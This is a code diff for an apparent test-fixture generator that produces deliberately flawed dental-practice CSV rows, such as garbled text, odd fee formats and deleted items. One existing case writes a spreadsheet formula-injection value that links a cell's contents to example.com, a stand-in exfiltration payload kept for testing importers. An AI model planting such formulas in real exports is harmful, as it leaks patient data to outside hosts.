@@ -72,6 +72,8 @@ function appointmentNote(visit: Visit, person: Person): string {
       return `New patient, ${phoneCell(person.phones.mobile || person.phones.home, 0)}`;
     case 'booked-by-stranger':
       return 'New patient, (312)555-0199';
+    case 'garbled-note':
+      return 'Doesnâ€™t want a reminder';
     case 'formula-in-note':
       return '=HYPERLINK("http://example.com/?"&A1,"confirm")';
     default:
@@ -109,7 +111,7 @@ export function planRow(plan: Plan, plans: readonly Plan[], person: Person, soun
 /** A row of `treatment_plan_items.csv`. */
 export function itemRow(item: PlannedItem, plan: Plan): Row<ColumnOf<'treatment_plan_items.csv'>> {
   const { defect } = item;
-  const status = defect === 'item-deleted' ? 'Deleted' : item.completed ? 'Completed' : 'Treatment Plan';
+  const status = defect === 'item-deleted' ? 'Deleted' : item.completed ? 'Completed' : 'TP';
   const cells = {
     item_id: String(item.id), case_id: String(plan.id), proc_id: String(item.procedure), code: item.code, description: item.text, tooth: item.tooth,
     surface: item.surface, fee: defect === 'fee-with-symbols' ? styledMoney(item.fee, 'symbols') : plainMoney(item.fee),
